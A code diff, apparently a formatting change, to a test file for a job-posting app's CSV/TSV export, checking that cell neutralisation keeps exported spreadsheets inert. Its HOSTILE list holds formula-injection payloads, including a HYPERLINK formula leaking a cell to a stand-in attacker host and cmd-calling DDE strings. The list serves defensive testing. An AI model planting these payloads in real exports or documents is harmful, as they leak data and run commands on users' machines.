@@ -2,17 +2,26 @@ import Papa from 'papaparse';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { emptyEntities } from '../../src/core/entities';
-import { neutraliseCell, parseDelimited, toCSV, toTSV, toTSVRow, toTSVTable, unneutraliseCell, UTF8_BOM } from '../../src/core/export/delimited';
+import {
+  neutraliseCell,
+  parseDelimited,
+  toCSV,
+  toTSV,
+  toTSVRow,
+  toTSVTable,
+  unneutraliseCell,
+  UTF8_BOM,
+} from '../../src/core/export/delimited';
 import { joinCell, SPREADSHEET_HEADER, toSpreadsheetRow, toSpreadsheetRows } from '../../src/core/export/rows';
 
 // Values a hostile posting could carry, and what a spreadsheet must show for each.
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click for salary")',
   '=1+1',
-  '+cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
   '-2+3',
   '-5',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   ' =1+1',
@@ -86,25 +95,37 @@ describe('toCSV', () => {
   });
 
   it('leaves no cell that a spreadsheet would run', () => {
-    for (const row of parseDelimited(toCSV(rows))) for (const cell of row) expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
+    for (const row of parseDelimited(toCSV(rows)))
+      for (const cell of row) expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
   });
 
   // Any text, and text that starts with the characters that matter here.
   const cellText = fc.oneof(
     fc.string({ unit: 'grapheme' }),
-    fc.tuple(fc.array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', '\uFF1D'), { maxLength: 3 }), fc.string()).map(([a, b]) => a.join('') + b),
+    fc
+      .tuple(
+        fc.array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', '\uFF1D'), { maxLength: 3 }),
+        fc.string(),
+      )
+      .map(([a, b]) => a.join('') + b),
   );
 
   it('keeps any text intact and inert (property)', () => {
     fc.assert(
-      fc.property(fc.array(fc.array(cellText, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (data) => {
-        const width = Math.max(...data.map((r) => r.length));
-        const square = data.map((r) => [...r, ...Array(width - r.length).fill('x')]);
-        // A CSV reader knows the delimiter; papaparse would otherwise guess it from the content (e.g. '|').
-        const parsed = Papa.parse<string[]>(toCSV(square, { bom: false }), { delimiter: ',', skipEmptyLines: false }).data.slice(0, square.length);
-        expect(parsed.map((r) => r.map(unneutraliseCell))).toEqual(square);
-        for (const r of parsed) for (const c of r) expect(isFormula(c)).toBe(false);
-      }),
+      fc.property(
+        fc.array(fc.array(cellText, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
+        (data) => {
+          const width = Math.max(...data.map((r) => r.length));
+          const square = data.map((r) => [...r, ...Array(width - r.length).fill('x')]);
+          // A CSV reader knows the delimiter; papaparse would otherwise guess it from the content (e.g. '|').
+          const parsed = Papa.parse<string[]>(toCSV(square, { bom: false }), {
+            delimiter: ',',
+            skipEmptyLines: false,
+          }).data.slice(0, square.length);
+          expect(parsed.map((r) => r.map(unneutraliseCell))).toEqual(square);
+          for (const r of parsed) for (const c of r) expect(isFormula(c)).toBe(false);
+        },
+      ),
       { numRuns: 300 },
     );
   });
@@ -148,7 +169,12 @@ describe('toTSVRow (clipboard)', () => {
   });
 
   it('builds a table of header and rows', () => {
-    expect(toTSVTable([['A', 'B'], ['1', '=2']])).toBe("A\tB\n1\t'=2");
+    expect(
+      toTSVTable([
+        ['A', 'B'],
+        ['1', '=2'],
+      ]),
+    ).toBe("A\tB\n1\t'=2");
   });
 });
 
@@ -162,12 +188,33 @@ describe('spreadsheet rows', () => {
   };
 
   it('has the popup columns in order', () => {
-    expect(SPREADSHEET_HEADER).toEqual(['Title', 'Company', 'Location', 'URL', 'Diploma', 'Major', 'Experience', 'Skills']);
+    expect(SPREADSHEET_HEADER).toEqual([
+      'Title',
+      'Company',
+      'Location',
+      'URL',
+      'Diploma',
+      'Major',
+      'Experience',
+      'Skills',
+    ]);
   });
 
   it('joins values with "; " in display form, repeats once', () => {
-    const row = toSpreadsheetRow({ title: 'Backend Engineer', company: 'Acme', location: 'Lyon', url: 'https://acme.example/jobs/1' }, entities);
-    expect(row).toEqual(['Backend Engineer', 'Acme', 'Lyon', 'https://acme.example/jobs/1', 'BA/BS/MS', 'computer science; engineering', '2+ years', 'C#; Node.js; SQL; Objective-C']);
+    const row = toSpreadsheetRow(
+      { title: 'Backend Engineer', company: 'Acme', location: 'Lyon', url: 'https://acme.example/jobs/1' },
+      entities,
+    );
+    expect(row).toEqual([
+      'Backend Engineer',
+      'Acme',
+      'Lyon',
+      'https://acme.example/jobs/1',
+      'BA/BS/MS',
+      'computer science; engineering',
+      '2+ years',
+      'C#; Node.js; SQL; Objective-C',
+    ]);
     expect(joinCell([])).toBe('');
   });
 
